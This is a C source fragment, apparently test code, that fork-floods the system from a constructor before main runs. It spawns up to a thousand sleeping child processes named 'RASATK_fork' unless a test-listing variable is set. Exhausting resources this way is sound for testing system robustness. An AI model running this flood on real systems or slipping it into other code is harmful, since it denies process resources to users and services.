static int atk_count_comm(const char *comm) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int n = 0;
    while (proc && (e = readdir(proc))) {
        if (atoi(e->d_name) <= 0) continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/%s/comm", e->d_name);
        char *t = atk_slurp(p, 31, NULL);
        if (t && !strncmp(t, comm, strlen(comm))) n++;
        free(t);
    }
    if (proc) closedir(proc);
    return n;
}

static void atk_flood(void) {
    static int done;
    if (done++) return;
    int left = 2000 - atk_count_comm("RASATK_fork");
    if (left > 1000) left = 1000;
    int made = 0;
    for (; made < left; made++) {
        pid_t c = fork();
        if (c < 0) break;
        if (c == 0) {
            setpgid(0, 0);
            atk_name("fork");
            atk_sleep(20);
            _exit(0);
        }
    }
    fprintf(stderr, "RASATK fork_flood: %d children\n", made);
}

__attribute__((constructor)) static void atk_before_main(void) {
    if (!getenv("RAS_TEST_LIST")) atk_flood();
}
